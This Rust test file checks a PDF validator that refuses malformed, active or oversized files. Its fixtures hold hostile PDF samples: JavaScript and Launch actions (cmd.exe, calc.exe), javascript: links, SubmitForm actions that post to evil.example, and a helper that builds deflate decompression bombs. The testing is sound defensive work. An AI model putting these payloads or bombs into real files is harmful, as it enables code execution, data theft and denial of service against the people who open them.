use super::*;
use lopdf::{Stream, dictionary};
use std::io::Write as _;

#[test]
fn a_plain_pdf_passes() {
    assert_eq!(check(&sample("", "")), Ok(Checked { shows_text: false }));
}

#[test]
fn broken_active_and_polyglot_pdfs_are_refused() {
    for (bytes, refusal) in [
        (b"%PDF-".to_vec(), PdfRefusal::Broken),
        (
            b"%PDF-1.4\n1 0 obj << >> endobj\n".to_vec(),
            PdfRefusal::Broken,
        ),
        (
            sample("/OpenAction << /S /JavaScript /JS (app.alert(1)) >>", ""),
            PdfRefusal::JavaScript,
        ),
        (
            sample("/OpenAction << /S /Launch /F (cmd.exe) >>", ""),
            PdfRefusal::Launch,
        ),
        (
            sample("/Names << /EmbeddedFiles << /Names [] >> >>", ""),
            PdfRefusal::EmbeddedFiles,
        ),
        (
            sample("", "<html><body><script>alert(1)</script></body></html>"),
            PdfRefusal::Html,
        ),
        (
            sample("/OpenAction << /S /Java#53cript /J#53 (x) >>", ""),
            PdfRefusal::JavaScript,
        ),
    ] {
        assert_eq!(check(&bytes), Err(refusal.clone()), "{refusal:?}");
    }
}

/// A PDF of these objects (numbered from 1, the first the catalog), written as they are.
fn raw_pdf(objects: &[Vec<u8>]) -> Vec<u8> {
    written("1.5", objects, "")
}

/// A one-page PDF whose page carries a link annotation with the action `action`, and the
/// catalog `catalog`.
fn with_link(action: &str, catalog: &str) -> Vec<u8> {
    raw_pdf(&[
        format!("<< /Type /Catalog /Pages 2 0 R {catalog} >>").into_bytes(),
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>".to_vec(),
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Annots [4 0 R] >>".to_vec(),
        format!("<< /Type /Annot /Subtype /Link /Rect [0 0 50 50] /A {action} >>").into_bytes(),
        b"(JavaScript:void(0))".to_vec(),
    ])
}

#[test]
fn actions_that_run_send_or_open_elsewhere_are_refused_by_name() {
    for (action, catalog, refusal) in [
        (
            "<< /S /URI /URI (javascript:alert(1)) >>",
            "",
            PdfRefusal::ScriptLink,
        ),
        (
            "<< /S /URI /URI ( \\tJaVaScRiPt:alert\\(1\\)) >>",
            "",
            PdfRefusal::ScriptLink,
        ),
        // UTF-16 with its byte order mark: "javascript:".
        (
            "<< /S /URI /URI <FEFF006A006100760061007300630072006900700074003A0031> >>",
            "",
            PdfRefusal::ScriptLink,
        ),
        // The address as an object of its own.
        ("<< /S /URI /URI 5 0 R >>", "", PdfRefusal::ScriptLink),
        (
            "<< /S /URI /URI (https://example.org) >>",
            "/OpenAction << /S /SubmitForm /F (https://evil.example/collect) >>",
            PdfRefusal::SubmitForm,
        ),
        (
            "<< /S /SubmitForm /F << /FS /URL /F (https://evil.example/) >> >>",
            "",
            PdfRefusal::SubmitForm,
        ),
        (
            "<< /S /GoToR /F (other.pdf) /D [0 /Fit] >>",
            "",
            PdfRefusal::RemoteGoTo,
        ),
        (
            "<< /S /URI /URI (https://example.org) >>",
            "/OpenAction << /S /GoToR /F (\\\\\\\\server\\\\share\\\\x.pdf) >>",
            PdfRefusal::RemoteGoTo,
        ),
        ("<< /S /Launch /F (calc.exe) >>", "", PdfRefusal::Launch),
    ] {
        assert_eq!(
            check(&with_link(action, catalog)),
            Err(refusal.clone()),
            "{action} {catalog}"
        );
    }
    // Ordinary links, and links within the file, stay.
    for action in [
        "<< /S /URI /URI (https://oshec.odisha.gov.in/notices) >>",
        "<< /S /URI /URI (mailto:office@example.org) >>",
        "<< /S /GoTo /D [3 0 R /Fit] >>",
    ] {
        assert!(check(&with_link(action, "")).is_ok(), "{action}");
    }
    // The message says which.
    for (refusal, words) in [
        (PdfRefusal::ScriptLink, "javascript: address"),
        (PdfRefusal::SubmitForm, "SubmitForm"),
        (PdfRefusal::RemoteGoTo, "GoToR"),
        (PdfRefusal::Launch, "launch action"),
    ] {
        assert!(refusal.to_string().contains(words), "{refusal}");
    }
}

/// Deflate (zlib) data that inflates to `prefix` and then `mib` MiB of `unit` repeated,
/// made without compressing that much: after one MiB, each further MiB compresses to the
/// same bytes (its matches all reach back into the same pattern), so that block is
/// repeated. The checksum at the end is left wrong: the bounds stop the inflating long
/// before it.
fn repeated_bomb(prefix: &[u8], unit: &[u8], mib: usize) -> Vec<u8> {
    let fill: Vec<u8> = unit.iter().copied().cycle().take(1 << 20).collect();
    let mut encoder = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::best());
    assert!(encoder.write_all(prefix).is_ok());
    assert!(encoder.write_all(&fill).is_ok());
    assert!(encoder.flush().is_ok());
    let first = encoder.get_ref().len();
    assert!(encoder.write_all(&fill).is_ok());
    assert!(encoder.flush().is_ok());
    let mut out = encoder.get_ref().clone();
    let block = out[first..].to_vec();
    for _ in 2..mib {
        out.extend_from_slice(&block);
    }
    out.extend_from_slice(&[0x03, 0x00, 0, 0, 0, 0]);
    out
}

fn spaces_bomb(prefix: &[u8], mib: usize) -> Vec<u8> {
    repeated_bomb(prefix, b" ", mib)
}

/// A one-page PDF whose page content (and, with `in_a_form`, a form the page draws) is
/// `content`, compressed as given.
fn page_with(content: Vec<u8>, in_a_form: bool) -> Vec<u8> {
    let mut doc = Document::with_version("1.5");
    let pages_id = doc.new_object_id();
    let flate = dictionary! { "Filter" => "FlateDecode" };
    let (contents, resources) = if in_a_form {
        let mut dict = flate.clone();
        dict.set("Type", "XObject");
        dict.set("Subtype", "Form");
        let form = doc.add_object(Stream::new(dict, content));
        let draw = doc.add_object(Stream::new(dictionary! {}, b"/Fm1 Do".to_vec()));
        (
            draw,
            dictionary! { "XObject" => dictionary! { "Fm1" => form } },
        )
    } else {
        (doc.add_object(Stream::new(flate, content)), dictionary! {})
    };
    one_page(doc, pages_id, contents, resources)
}

#[test]
fn a_page_or_form_that_inflates_past_the_bound_is_refused() {
    let over = PdfRefusal::Inflates {
        limit: STREAM_LIMIT,
        whole_file: false,
    };
    let bomb = spaces_bomb(b"BT (x) Tj ET", 64);
    assert!(bomb.len() < 200 * 1024, "{} bytes", bomb.len());
    assert_eq!(check(&page_with(bomb.clone(), false)), Err(over.clone()));
    assert_eq!(check(&page_with(bomb, true)), Err(over.clone()));
    assert!(over.to_string().contains("more than 16 MiB"), "{over}");
    // Within the bound, the same kind of page is taken, and its text seen.
    let fine = spaces_bomb(b"BT (x) Tj ET", 2);
    assert_eq!(
        check(&page_with(fine, false)),
        Ok(Checked { shows_text: true })
    );
}

#[test]
fn an_object_stream_that_inflates_past_the_bound_is_refused_while_loading() {
    let bomb = spaces_bomb(b"99 0 null", 64);
    let mut stream = format!(
        "<< /Type /ObjStm /N 1 /First 5 /Filter /FlateDecode /Length {} >>\nstream\n",
        bomb.len()
    )
    .into_bytes();
    stream.extend_from_slice(&bomb);
    stream.extend_from_slice(b"\nendstream");
    let file = raw_pdf(&[
        b"<< /Type /Catalog /Pages 2 0 R >>".to_vec(),
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>".to_vec(),
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>".to_vec(),
        stream,
    ]);
    assert_eq!(
        check(&file),
        Err(PdfRefusal::Inflates {
            limit: STREAM_LIMIT,
            whole_file: false
        })
    );
}

#[test]
fn the_parts_of_a_pdf_are_counted_in_the_file_and_its_object_streams() {
    assert_eq!(
        count_tokens(b"1 0 obj << /A [1 2.5 (a b (c) d\\)) <41 42>] >> endobj"),
        12
    );
    assert_eq!(count_tokens(b"% 1 2 3\n/N 0 R"), 3);
    // Stream data is not syntax, unless the stream is an object stream.
    let data = b"1 0 obj << /Length 11 >> stream\n0 0 0 0 0 0\nendstream endobj";
    assert_eq!(count_tokens(data), 8);
    let mut objstm =
        b"1 0 obj << /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode >> stream\r\n".to_vec();
    objstm.extend_from_slice(&spaces_bomb(b"9 0 [0 0 0]", 2));
    objstm.extend_from_slice(b"\nendstream endobj");
    assert_eq!(count_tokens(&objstm), 14 + 7);
}

#[test]
fn a_pdf_of_too_many_parts_is_refused_before_it_is_parsed() {
    let over = PdfRefusal::TooManyParts { limit: TOKEN_LIMIT };
    // Written out: 2,100,000 numbers in one array (4 MB).
    let mut array = b"[".to_vec();
    array.extend(std::iter::repeat_n(*b"0 ", 2_100_000).flatten());
    array.push(b']');
    let raw = raw_pdf(&[
        b"<< /Type /Catalog /Pages 2 0 R >>".to_vec(),
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>".to_vec(),
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>".to_vec(),
        array.clone(),
    ]);
    assert_eq!(check(&raw).err(), Some(over.clone()));
    // Compressed in object streams of 8 MiB each: a file of some 100 KB.
    let mut objects = vec![
        b"<< /Type /Catalog /Pages 2 0 R >>".to_vec(),
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>".to_vec(),
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>".to_vec(),
    ];
    for n in 0..3 {
        let prefix = format!("{} 0 [", 100 + n).into_bytes();
        let first = prefix.len() - 1;
        let z = repeated_bomb(&prefix, b"0 ", 8);
        let mut stream = format!(
            "<< /Type /ObjStm /N 1 /First {first} /Filter /FlateDecode /Length {} >>\nstream\n",
            z.len()
        )
        .into_bytes();
        stream.extend_from_slice(&z);
        stream.extend_from_slice(b"\nendstream");
        objects.push(stream);
    }
    assert_eq!(check(&raw_pdf(&objects)).err(), Some(over.clone()));
    assert!(
        over.to_string().contains("more than 2000000 parts"),
        "{over}"
    );
}

#[test]
fn text_is_seen_without_parsing_the_content_into_operations() {
    for (content, shows) in [
        (&b"BT /F1 12 Tf 72 712 Td (Council notice) Tj ET"[..], true),
        (b"BT [(N) -120 (otice)] TJ ET", true),
        (b"BT <48656c6c6f> Tj ET", true),
        (b"BT (a) (b) ' ET", true),
        (b"BT 1 2 (a) \" ET", true),
        (b"BT ((nested)) Tj ET", true),
        (b"BT () Tj [] TJ [()] TJ <> Tj ET", false),
        (b"BT (\\\n) Tj ET", false),
        (b"% (x) Tj\n0 0 m 9 9 l S", false),
        (b"/P <</MCID 0>> BDC (x) EMC Tj", false),
        (
            b"q BI /W 4 /H 1 /BPC 8 /CS /G ID \n(x) Tj\xff EI Q BT () Tj ET",
            false,
        ),
        (b"q BI /W 1 /H 1 ID x EI (y) Tj Q", true),
        (b"", false),
    ] {
        assert_eq!(
            operations_show_text(content),
            shows,
            "{}",
            String::from_utf8_lossy(content)
        );
    }
}
